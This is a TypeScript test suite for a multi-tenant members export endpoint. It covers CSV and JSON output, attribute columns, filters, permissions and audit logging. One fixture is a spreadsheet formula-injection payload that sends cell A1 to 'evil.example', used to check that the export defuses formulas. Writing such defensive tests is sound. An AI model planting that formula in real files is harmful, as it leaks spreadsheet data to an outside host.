import { and, eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import * as exportRoute from '@/app/api/v1/tenants/[tenant]/members/export/route';
import { POST as createRole } from '@/app/api/v1/tenants/[tenant]/roles/route';
import { PATCH as patchTenant } from '@/app/api/v1/tenants/[tenant]/route';
import { auditEvents, memberRoles, memberships, roles, systems, teamMembers, teams } from '@/db/schema';
import { MEMBER_CSV_COLUMNS, exportMembers } from '@/lib/tenancy/export-members';
import { addMember } from '@/lib/tenancy/provision-tenant';
import { withTenantContext } from '@/lib/tenancy/tenant-context';
import { withTenant } from '@/lib/tenancy/with-tenant';
import { parseCsv } from '../support/csv';
import { call, createTenantWithMembers, createUserWithSession, unique, type TestTenant, type TestUser } from '../support/fixtures';
import { listMembers, membershipId, patchMember } from '../support/members';

/**
 * The members export (issue 17: custom attributes "in exports") through its route handler: CSV with one column per
 * defined attribute (header = label, definition order), read back with a real RFC 4180 parser; hidden values left
 * out; formulas defused; the list's filters; JSON = the list's items; a role without members.read refused, another
 * tenant's slug 404, bad input 400 naming the field (nothing recorded), and `members.exported` in the trail.
 */

let acme: TestTenant;
let other: TestTenant;
const ids: Record<string, string> = {};
let noRead: TestUser; // holds a custom role without members.read
let suspendedId: string;

const DEFINITIONS = [
  { key: 'department', label: 'Department', type: 'text', required: false },
  { key: 'employee_number', label: 'Employee number', type: 'number', required: false },
  { key: 'site', label: 'Site', type: 'choice', options: ['Berlin', 'Basel'], required: false },
  // A label equal to a fixed column's: the header gets the key in brackets.
  { key: 'badge_name', label: 'Name', type: 'text', required: false },
];
const HEADER = [...MEMBER_CSV_COLUMNS, 'Department', 'Employee number', 'Site', 'Name (badge_name)'];
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

type Role = keyof TestTenant['users'];

async function exportAs(as: TestUser, query: Record<string, string | string[]> = {}, slug = acme.slug, requestId?: string) {
  const url = new URL(`http://localhost/api/v1/tenants/${slug}/members/export`);
  for (const [key, value] of Object.entries(query)) for (const v of [value].flat()) url.searchParams.append(key, v);
  return call(exportRoute.GET, {
    url: url.toString(),
    params: { tenant: slug },
    cookie: as.cookie,
    headers: requestId ? { 'x-request-id': requestId } : {},
  });
}

/** The CSV read back: the header checked, each record as an object by header. */
function records(text: unknown, header: string[] = HEADER): Array<Record<string, string>> {
  expect(typeof text).toBe('string');
  const [head, ...rows] = parseCsv(text as string);
  expect(head).toEqual(header);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]])));
}

const byId = (rows: Array<Record<string, string>>) => new Map(rows.map((r) => [r['Member id'], r]));

async function exportedEvents(t: TestTenant, requestId: string) {
  return withTenant(t.id, (tx) =>
    tx
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.requestId, requestId), eq(auditEvents.action, 'members.exported'))),
  );
}

beforeAll(async () => {
  acme = await createTenantWithMembers();
  other = await createTenantWithMembers();
  for (const role of Object.keys(acme.users) as Role[]) ids[role] = await membershipId(acme, acme.users[role].id);
  const defined = await call(patchTenant, {
    method: 'PATCH',
    url: `http://localhost/api/v1/tenants/${acme.slug}`,
    params: { tenant: acme.slug },
    cookie: acme.users.admin.cookie,
    body: { settings: { memberAttributes: DEFINITIONS } },
  });
  expect(defined.status, JSON.stringify(defined.json)).toBe(200);
  const set = async (id: string, attributes: Record<string, unknown>) =>
    expect((await patchMember(acme, id, acme.users.admin.cookie, { attributes })).status).toBe(200);
  await set(ids.qa, { department: FORMULA, employee_number: -5, site: 'Basel', badge_name: 'QA Dana' });
  await set(ids.manager, { department: 'Quality, "QC"\nBerlin', site: 'Berlin' });
  await set(ids.operator, { employee_number: 40215 });

  // Hidden values: one of an attribute no longer defined and a choice no longer among the options (the list's rule).
  await withTenant(acme.id, (tx) =>
    tx
      .update(memberships)
      .set({ attributes: { employee_number: 40215, secret_note: 'HIDDEN-VALUE-1', site: 'HIDDEN-OPTION-2' } })
      .where(eq(memberships.id, ids.operator)),
  );

  // A downstream system's role and a team for the operator.
  await withTenant(acme.id, async (tx) => {
    const [system] = await tx
      .insert(systems)
      .values({ tenantId: acme.id, slug: `ims-${unique()}`, name: 'IMS' })
      .returning({ id: systems.id, slug: systems.slug });
    const [role] = await tx.insert(roles).values({ tenantId: acme.id, name: 'Admin', systemId: system.id }).returning({ id: roles.id });
    await tx.insert(memberRoles).values({ tenantId: acme.id, membershipId: ids.operator, roleId: role.id });
    const [team] = await tx.insert(teams).values({ tenantId: acme.id, name: 'Night shift' }).returning({ id: teams.id });
    await tx.insert(teamMembers).values({ tenantId: acme.id, teamId: team.id, membershipId: ids.operator });
    ids.systemSlug = system.slug;
  });

  // A custom role without members.read, held by a member of its own.
  const role = await call(createRole, {
    method: 'POST',
    url: `http://localhost/api/v1/tenants/${acme.slug}/roles`,
    params: { tenant: acme.slug },
    cookie: acme.users.admin.cookie,
    body: { name: `batches-only-${unique()}`, permissions: ['batches.read', 'teams.read'] },
  });
  expect(role.status, JSON.stringify(role.json)).toBe(201);
  noRead = await createUserWithSession('no-members-read');
  await withTenant(acme.id, (tx) => addMember(tx, { tenantId: acme.id, userId: noRead.id, roleIds: [role.json.id as string] }));

  // A suspended member.
  const suspended = await createUserWithSession('suspended');
  suspendedId = (
    await withTenant(acme.id, (tx) => addMember(tx, { tenantId: acme.id, userId: suspended.id, roleIds: [acme.roleIds.viewer] }))
  ).membershipId;
  await withTenant(acme.id, (tx) => tx.update(memberships).set({ status: 'suspended' }).where(eq(memberships.id, suspendedId)));
});

describe('GET …/members/export?format=csv', () => {
  it('has each member once, with roles, teams and each attribute value in its own column', async () => {
    const res = await exportAs(acme.users.manager);
    expect(res.status, JSON.stringify(res.json)).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="members-${acme.slug}-${today}.csv"`);
    expect(res.headers.get('cache-control')).toBe('no-store');

    const rows = records(res.json);
    const listed = (await listMembers(acme, acme.users.manager.cookie, '?limit=200')).json.data as Array<{ id: string }>;
    // Every current member (active and suspended) once, in the list's order.
    expect(rows.map((r) => r['Member id'])).toEqual(listed.map((m) => m.id));
    expect(new Set(rows.map((r) => r['Member id'])).size).toBe(rows.length);
    expect(rows).toHaveLength(7);

    const got = byId(rows);
    expect(got.get(ids.qa)).toMatchObject({
      Name: acme.users.qa.name,
      Email: acme.users.qa.email,
      Status: 'active',
      Roles: 'qa',
      Teams: '',
      Department: `'${FORMULA}`, // defused: a leading quote, so a spreadsheet shows text
      'Employee number': '-5', // a number stays a number
      Site: 'Basel',
      'Name (badge_name)': 'QA Dana',
    });
    expect(got.get(ids.manager)).toMatchObject({ Department: 'Quality, "QC"\nBerlin', Site: 'Berlin', 'Employee number': '' });
    expect(got.get(ids.operator)).toMatchObject({
      Roles: `Admin · ${ids.systemSlug}; operator`,
      Teams: 'Night shift',
      'Employee number': '40215',
      Site: '', // the stored "HIDDEN-OPTION-2" is not one of the options: hidden, as in the list
    });
    expect(got.get(suspendedId)).toMatchObject({ Status: 'suspended' });
    expect(got.get(ids.admin)!.Joined).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);

    const text = res.json as string;
    expect(text).not.toContain('HIDDEN-VALUE-1');
    expect(text).not.toContain('HIDDEN-OPTION-2');
    expect(text).not.toContain('secret_note');
    // The raw text: the formula cell is quoted (it holds quotes) with its leading apostrophe inside.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('keeps the filters of the list: attribute, status, q and role, and its order', async () => {
    const ofQuery = async (query: Record<string, string | string[]>) => {
      const res = await exportAs(acme.users.admin, query);
      expect(res.status, JSON.stringify(res.json)).toBe(200);
      return records(res.json).map((r) => r['Member id']);
    };
    expect(await ofQuery({ attribute: 'site:basel' })).toEqual([ids.qa]);
    expect(await ofQuery({ attribute: 'department:quality' })).toEqual([ids.manager]);
    expect(await ofQuery({ attribute: ['site:berlin', 'department:qc'] })).toEqual([ids.manager]);
    expect(await ofQuery({ attribute: 'employee_number:40215' })).toEqual([ids.operator]);
    expect(await ofQuery({ status: 'suspended' })).toEqual([suspendedId]);
    expect(await ofQuery({ q: acme.users.viewer.email })).toEqual([ids.viewer]);
    expect(new Set(await ofQuery({ role: 'operator' }))).toEqual(new Set([ids.operator]));
    expect(await ofQuery({ role: 'Admin' })).toEqual([ids.operator]); // a role name: the system role "Admin"
    const byName = await ofQuery({ sort: 'name', dir: 'desc' });
    const listed = (await listMembers(acme, acme.users.admin.cookie, '?limit=200&sort=name&dir=desc')).json.data as Array<{ id: string }>;
    expect(byName).toEqual(listed.map((m) => m.id));
  });

  it('reads page by page with the keyset cursor: small pages give the same members, each once', async () => {
    const file = await withTenantContext(
      { type: 'user', id: acme.users.admin.id, name: acme.users.admin.name, email: acme.users.admin.email, isPlatformAdmin: false },
      acme.slug,
      { requestId: `paged-${unique()}`, ip: null, userAgent: null },
      (ctx) => exportMembers(ctx, { format: 'csv', sort: 'name' }, { pageSize: 2 }),
    );
    expect(file.count).toBe(7);
    const rows = records(await new Response(file.stream).text());
    const listed = (await listMembers(acme, acme.users.admin.cookie, '?limit=200&sort=name')).json.data as Array<{ id: string }>;
    expect(rows.map((r) => r['Member id'])).toEqual(listed.map((m) => m.id));
  });

  it('a tenant without attributes: the fixed columns only', async () => {
    const res = await exportAs(other.users.admin, {}, other.slug);
    expect(res.status).toBe(200);
    expect(records(res.json, [...MEMBER_CSV_COLUMNS])).toHaveLength(5);
  });
});

describe('GET …/members/export?format=json', () => {
  it("is an array of the list's items, hidden values left out", async () => {
    const res = await exportAs(acme.users.qa, { format: 'json' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`filename="members-${acme.slug}-\\d{4}-\\d\\d-\\d\\d\\.json"`));
    const listed = (await listMembers(acme, acme.users.qa.cookie, '?limit=200')).json.data;
    expect(res.json).toEqual(listed);
    const operator = (res.json as Array<{ id: string; attributes: unknown }>).find((m) => m.id === ids.operator)!;
    expect(operator.attributes).toEqual({ employee_number: 40215 });
    expect((res.json as Array<{ attributes: Record<string, unknown> }>).find((m) => m.attributes.department === FORMULA)).toBeTruthy(); // verbatim
  });

  it('an empty result is an empty array', async () => {
    const res = await exportAs(acme.users.admin, { format: 'json', q: `nobody-${unique()}` });
    expect(res.status).toBe(200);
    expect(res.json).toEqual([]);
  });
});

describe('who may export, and bad input', () => {
  it('every role holding members.read may; a role without it is refused (403), nothing recorded', async () => {
    const outcome: Record<string, number> = {};
    for (const role of Object.keys(acme.users) as Role[]) outcome[role] = (await exportAs(acme.users[role])).status;
    expect(outcome).toEqual({ admin: 200, manager: 200, qa: 200, operator: 403, viewer: 403 });
    const requestId = `forbidden-${unique()}`;
    const res = await exportAs(noRead, {}, acme.slug, requestId);
    expect(res.status).toBe(403);
    expect(res.json.detail).toMatch(/members\.read/);
    expect(await exportedEvents(acme, requestId)).toHaveLength(0);
  });

  it("another tenant's slug is 404, nothing recorded in either tenant", async () => {
    const requestId = `other-${unique()}`;
    const res = await exportAs(acme.users.admin, {}, other.slug, requestId);
    expect(res.status).toBe(404);
    expect(await exportedEvents(other, requestId)).toHaveLength(0);
    expect(await exportedEvents(acme, requestId)).toHaveLength(0);
  });

  it('bad input is 400 naming the field, nothing recorded', async () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ format: 'xlsx' }, 'query.format'],
      [{ status: 'removed' }, 'query.status'],
      [{ sort: 'email' }, 'query.sort'],
      [{ attribute: 'unknown_key:1' }, 'query.attribute'],
      [{ attribute: 'employee_number:many' }, 'query.attribute'],
      [{ limit: '10' }, 'query'], // no pages in an export
    ];
    for (const [query, path] of cases) {
      const requestId = `bad-${unique()}`;
      const res = await exportAs(acme.users.admin, query, acme.slug, requestId);
      expect(res.status, JSON.stringify(query)).toBe(400);
      expect(res.json.errors.map((e: { path: string }) => e.path).join(' '), JSON.stringify(query)).toContain(path);
      expect(await exportedEvents(acme, requestId)).toHaveLength(0);
    }
    const format = await exportAs(acme.users.admin, { format: 'xlsx' });
    expect(format.json.errors).toContainEqual({ path: 'query.format', message: "Use 'csv' or 'json'." });
  });

  it('only GET: a write is 405', async () => {
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE'] as const) {
      const res = await call(exportRoute[method], {
        method,
        url: `http://localhost/api/v1/tenants/${acme.slug}/members/export`,
        params: { tenant: acme.slug },
        cookie: acme.users.admin.cookie,
      });
      expect(res.status, method).toBe(405);
    }
  });
});

describe('the audit trail', () => {
  it('records members.exported with the format, the filters given and the number of members', async () => {
    const requestId = `export-${unique()}`;
    const res = await exportAs(acme.users.manager, { format: 'csv', attribute: 'site:berlin', status: 'active' }, acme.slug, requestId);
    expect(res.status).toBe(200);
    expect(records(res.json)).toHaveLength(1);
    const events = await exportedEvents(acme, requestId);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      actorId: acme.users.manager.id,
      targetType: 'tenant',
      targetId: acme.id,
      after: { format: 'csv', filters: { attribute: 'site:berlin', status: 'active', sort: 'joined' }, count: 1 },
    });
  });
});
